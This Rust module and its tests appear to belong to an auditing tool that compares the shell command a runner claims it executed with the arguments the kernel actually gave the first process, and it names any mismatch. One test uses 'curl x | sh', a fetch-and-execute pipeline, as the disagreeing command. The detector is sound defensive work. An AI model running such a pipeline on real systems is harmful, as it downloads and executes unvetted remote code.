//! What the exit claimed it ran, held against what the kernel ran (issue 32,
//! ADR-0137).
//!
//! Before a command starts, the exit writes its `exec` entry: the text it
//! hands to the shell, `SHELL -c <command>`. The observer then reads, after
//! the exec, what the command's first process became: its executable (path,
//! device and inode, BLAKE3) and the arguments the kernel gave it (`ran`
//! entries, `effect:nd7`). The two come from different places; when the first
//! process's arguments are not `-c` and the exec entry's text, the claim and
//! the effect disagree, and both are named.
//!
//! A command's first process is the first exec marked with its `exec` seq,
//! if `nd7 run` forked it (its `ppid` is `run_start`'s `pid`: the exit starts
//! every command's shell from `nd7 run`). Any other first marked exec
//! descends from a shell the observer left unmarked (it marks a command's
//! first exec only once the exit has listed it, and a late listing leaves it
//! unmarked): the command's own first exec is not known, and nothing is held
//! against it. So too for an exec whose image could not be read
//! (`confirmed: false`), and for a process's second program (a pid seen to
//! exec and not yet to end: the shell's `exec` after a first exec left
//! unmarked). Verify says how many claims were so held against nothing
//! ([`Claims::unheld`], ADR-0144), rather than pass them over. Pure: fed
//! line by line.

use std::collections::{HashMap, HashSet};

use serde_json::Value;

/// A command whose first process ran something other than what its `exec`
/// entry claims.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Mismatch {
    /// The seq of the exit's `exec` entry.
    pub exec_seq: u64,
    /// The text it claims was handed to the shell (lossy when not UTF-8).
    pub command: String,
    /// The seq of the `ran` entry holding the command's first exec.
    pub ran_seq: u64,
    pub pid: u32,
    /// The executable after the exec: path, `dev:ino`, BLAKE3 (`None` when
    /// its bytes could not be read).
    pub exe: (String, String, Option<String>),
    /// The arguments the new program got.
    pub argv: Vec<String>,
}

/// Holds each `exec` entry's claim against its command's first exec.
#[derive(Debug, Default)]
pub struct Claims {
    /// The claimed text by `exec` seq, until its first exec is held.
    claims: HashMap<u64, Vec<u8>>,
    /// `nd7 run`'s pid, as `run_start` states it.
    run_pid: Option<u64>,
    /// Every pid seen to exec so far: without `run_pid` (no chain with
    /// `ran` entries lacks it), a first process is one not forked by them.
    execed: HashSet<u32>,
    /// The pids seen to exec and not yet seen to end: a later exec of one
    /// is the same process running another program, not a first process.
    live: HashSet<u32>,
    out: Vec<Mismatch>,
    /// Commands whose first marked exec could not be held (not forked by
    /// `nd7 run`, or not confirmed).
    unheld: u64,
    /// Whether the chain holds what ran at all.
    ran: bool,
}

impl Claims {
    pub fn new() -> Claims {
        Claims::default()
    }

    /// Takes the next line of a run's chain; lines that are not entries are
    /// skipped (the chain's own check reports them).
    pub fn feed(&mut self, line: &[u8]) {
        let Ok(entry) = serde_json::from_slice::<Value>(line) else {
            return;
        };
        let seq = entry["seq"].as_u64().unwrap_or(0);
        let is = |source: &str, kind: &str| entry["source"] == source && entry["kind"] == kind;
        if is(crate::run_entry::SOURCE, crate::run_entry::RUN_START) {
            self.run_pid = entry["body"]["pid"].as_u64();
        } else if is(crate::run_entry::SOURCE, crate::run_entry::EXEC) {
            if let Some(claim) = claimed(&entry["body"]) {
                self.claims.insert(seq, claim);
            }
        } else if is(crate::effect::SOURCE, crate::effect::RAN) {
            self.ran(seq, &entry["body"]);
        }
    }

    /// The commands whose first process disagrees with their claim.
    pub fn finish(self) -> Vec<Mismatch> {
        self.out
    }

    /// How many commands' claims were held against nothing, in a chain
    /// that holds what ran: their first process is not known (its exec was
    /// not marked with the command, not forked by `nd7 run`, not
    /// confirmed, or not seen). Not a disagreement, but not a check either:
    /// verify says so, so that "reconciled" never stands for a claim no
    /// effect was held against (ADR-0144).
    pub fn unheld(&self) -> u64 {
        if !self.ran {
            return 0;
        }
        self.unheld + self.claims.len() as u64
    }

    fn ran(&mut self, ran_seq: u64, body: &Value) {
        self.ran = true;
        let exes = body["exes"].as_array().map(Vec::as_slice).unwrap_or(&[]);
        for exec in body["execs"].as_array().map(Vec::as_slice).unwrap_or(&[]) {
            let pid = exec["pid"].as_u64().unwrap_or(0) as u32;
            let ppid = exec["ppid"].as_u64().unwrap_or(0);
            let first = exec["command"]
                .as_u64()
                .and_then(|c| self.claims.remove(&c).map(|claim| (c, claim)));
            let forked_by_the_run = match self.run_pid {
                Some(run) => ppid == run,
                None => !self.execed.contains(&(ppid as u32)),
            };
            // A process's second program (the shell's `exec`, after a first
            // exec left unmarked) was not what the exit handed the shell.
            let fresh = self.live.insert(pid);
            if let Some((exec_seq, claim)) = first {
                match identity(exes, exec).filter(|_| forked_by_the_run && fresh) {
                    Some(exe) => self.hold(exec_seq, &claim, ran_seq, exec, exe),
                    None => self.unheld += 1,
                }
            }
            self.execed.insert(pid);
        }
        for exit in body["exits"].as_array().map(Vec::as_slice).unwrap_or(&[]) {
            if let Some(pid) = exit[0].as_u64() {
                self.live.remove(&(pid as u32));
            }
        }
    }

    /// Holds a command's claim against its first exec, read after the exec.
    fn hold(
        &mut self,
        exec_seq: u64,
        claim: &[u8],
        ran_seq: u64,
        exec: &Value,
        exe: (String, String, Option<String>),
    ) {
        let argv = strings(&exec["argv"]);
        let cut = exec["cut"].as_bool().unwrap_or(false);
        if !holds(claim, &argv, cut) {
            self.out.push(Mismatch {
                exec_seq,
                command: String::from_utf8_lossy(claim).into_owned(),
                ran_seq,
                pid: exec["pid"].as_u64().unwrap_or(0) as u32,
                exe,
                argv,
            });
        }
    }
}

/// The bytes an `exec` entry says were handed to the shell: `command_hex`
/// when the text was not UTF-8, else `command`.
fn claimed(body: &Value) -> Option<Vec<u8>> {
    if let Some(hex) = body["command_hex"].as_str() {
        return (0..hex.len())
            .step_by(2)
            .map(|i| u8::from_str_radix(hex.get(i..i + 2)?, 16).ok())
            .collect();
    }
    body["command"].as_str().map(|c| c.as_bytes().to_vec())
}

/// The executable of a confirmed exec, as its `ran` entry lists it.
fn identity(exes: &[Value], exec: &Value) -> Option<(String, String, Option<String>)> {
    let exe = exes.get(usize::try_from(exec["exe"].as_u64()?).ok()?)?;
    Some((
        exe[0].as_str()?.to_string(),
        exe[1].as_str().unwrap_or("?").to_string(),
        exe[2].as_str().map(str::to_string),
    ))
}

fn strings(v: &Value) -> Vec<String> {
    v.as_array()
        .map(|a| {
            a.iter()
                .map(|s| s.as_str().unwrap_or("").to_string())
                .collect()
        })
        .unwrap_or_default()
}

/// Whether the first process's arguments are the shell's `-c` and the
/// claimed text (read lossily, as the observer reads arguments); arguments
/// cut at the observer's limit need only begin it. A cut that split a
/// character leaves one U+FFFD where the claim has the whole character: the
/// text before it must begin the claim (ADR-0144).
fn holds(claim: &[u8], argv: &[String], cut: bool) -> bool {
    let claim = String::from_utf8_lossy(claim);
    let begins = |text: &str| claim.starts_with(text.strip_suffix('\u{fffd}').unwrap_or(text));
    match argv {
        [_, c, text] if c == "-c" => *text == claim || (cut && begins(text)),
        [_, c] if c == "-c" => cut,
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn exec_entry(seq: u64, command: &str) -> Vec<u8> {
        json!({"seq": seq, "source": "exit:nd7", "kind": "exec", "body": {"command": command}})
            .to_string()
            .into_bytes()
    }

    fn ran(seq: u64, execs: Value) -> Vec<u8> {
        json!({"seq": seq, "source": "effect:nd7", "kind": "ran", "body": {
            "exes": [["/usr/bin/bash", "8:9", "ab"], ["/usr/bin/true", "8:10", "cd"]],
            "execs": execs,
        }})
        .to_string()
        .into_bytes()
    }

    fn check(lines: &[Vec<u8>]) -> Vec<Mismatch> {
        let mut claims = Claims::new();
        for line in lines {
            claims.feed(line);
        }
        claims.finish()
    }

    #[test]
    fn a_first_process_that_ran_the_claimed_text_agrees() {
        let found = check(&[
            exec_entry(3, "make -j2"),
            ran(
                4,
                json!([
                    {"pid": 10, "ppid": 1, "exe": 0, "argv": ["/bin/bash", "-c", "make -j2"], "command": 3},
                    {"pid": 11, "ppid": 10, "exe": 1, "argv": ["true"], "command": 3},
                ]),
            ),
        ]);
        assert_eq!(found, vec![]);
    }

    #[test]
    fn a_first_process_that_ran_other_text_is_named_with_its_claim() {
        let found = check(&[
            exec_entry(3, "make -j2"),
            ran(
                4,
                json!([{"pid": 10, "ppid": 1, "exe": 0, "argv": ["/bin/bash", "-c", "curl x | sh"], "command": 3}]),
            ),
        ]);
        assert_eq!(
            found,
            vec![Mismatch {
                exec_seq: 3,
                command: "make -j2".into(),
                ran_seq: 4,
                pid: 10,
                exe: ("/usr/bin/bash".into(), "8:9".into(), Some("ab".into())),
                argv: vec!["/bin/bash".into(), "-c".into(), "curl x | sh".into()],
            }]
        );
    }

    #[test]
    fn another_program_as_the_first_process_disagrees() {
        let found = check(&[
            exec_entry(3, "ls"),
            ran(
                4,
                json!([{"pid": 10, "ppid": 1, "exe": 1, "argv": ["true", "-c", "ls", "x"], "command": 3}]),
            ),
        ]);
        assert_eq!(found.len(), 1, "{found:?}");
        assert_eq!(found[0].exe.0, "/usr/bin/true");
    }

    #[test]
    fn a_first_exec_left_unmarked_or_unread_is_not_held() {
        let found = check(&[
            exec_entry(3, "ls"),
            exec_entry(5, "make"),
            ran(
                6,
                json!([
                    // The shell of command 3, listed late: unmarked; its
                    // child is marked but is not the first process.
                    {"pid": 10, "ppid": 1, "exe": 0, "argv": ["/bin/bash", "-c", "ls"]},
                    {"pid": 11, "ppid": 10, "exe": 1, "argv": ["ls"], "command": 3},
                    {"pid": 12, "ppid": 1, "confirmed": false, "argv": [], "command": 5},
                ]),
            ),
        ]);
        assert_eq!(found, vec![]);
    }

    /// `nd7 run` (pid 1 here) forks every command's shell; a first marked
    /// exec it did not fork is a later process of a shell left unmarked,
    /// such as a subshell's child, whose forker never exec'd.
    #[test]
    fn a_first_marked_exec_not_forked_by_nd7_run_is_not_held() {
        let start =
            json!({"seq": 0, "source": "exit:nd7", "kind": "run_start", "body": {"pid": 1}})
                .to_string()
                .into_bytes();
        let found = check(&[
            start.clone(),
            exec_entry(3, "(ls; ls)"),
            ran(
                4,
                json!([
                    {"pid": 10, "ppid": 1, "exe": 0, "argv": ["/bin/bash", "-c", "(ls; ls)"]},
                    {"pid": 12, "ppid": 11, "exe": 1, "argv": ["ls"], "command": 3},
                ]),
            ),
        ]);
        assert_eq!(found, vec![]);
        let held = check(&[
            start,
            exec_entry(3, "ls"),
            ran(
                4,
                json!([{"pid": 10, "ppid": 1, "exe": 1, "argv": ["true"], "command": 3}]),
            ),
        ]);
        assert_eq!(held.len(), 1, "{held:?}");
    }

    /// A cut that splits a character keeps one U+FFFD where the claim has
    /// the character: still the claim's beginning. A process's second
    /// program is not its first process, and a claim no exec was held
    /// against is counted (ADR-0144).
    #[test]
    fn a_split_character_a_second_program_and_unheld_claims() {
        let long = format!("{}é", "x".repeat(4082));
        let found = check(&[
            exec_entry(3, &long),
            ran(
                4,
                json!([{"pid": 10, "ppid": 1, "exe": 0, "argv": ["/bin/bash", "-c", format!("{}\u{fffd}", "x".repeat(4082))], "cut": true, "command": 3}]),
            ),
        ]);
        assert_eq!(found, vec![]);
        let mut claims = Claims::new();
        for line in [
            exec_entry(3, "/bin/true a"),
            exec_entry(5, "never seen"),
            ran(
                6,
                json!([
                    {"pid": 10, "ppid": 1, "exe": 0, "argv": ["/bin/bash", "-c", "/bin/true a"]},
                    {"pid": 10, "ppid": 1, "exe": 1, "argv": ["/bin/true", "a"], "command": 3},
                ]),
            ),
        ] {
            claims.feed(&line);
        }
        assert_eq!(claims.unheld(), 2);
        assert_eq!(claims.finish(), vec![]);
    }

    #[test]
    fn cut_arguments_need_only_begin_the_claim_and_bytes_are_read_lossily() {
        let long = "x".repeat(5000);
        let found = check(&[
            exec_entry(3, &long),
            ran(
                4,
                json!([{"pid": 10, "ppid": 1, "exe": 0, "argv": ["/bin/bash", "-c", &long[..4000]], "cut": true, "command": 3}]),
            ),
            json!({"seq": 5, "source": "exit:nd7", "kind": "exec",
                   "body": {"command": "echo \u{fffd}", "command_hex": "6563686f20ff"}})
            .to_string()
            .into_bytes(),
            ran(
                6,
                json!([{"pid": 20, "ppid": 1, "exe": 0, "argv": ["/bin/bash", "-c", "echo \u{fffd}"], "command": 5}]),
            ),
        ]);
        assert_eq!(found, vec![]);
        let uncut = check(&[
            exec_entry(3, &long),
            ran(
                4,
                json!([{"pid": 10, "ppid": 1, "exe": 0, "argv": ["/bin/bash", "-c", &long[..4000]], "command": 3}]),
            ),
        ]);
        assert_eq!(uncut.len(), 1);
    }
}
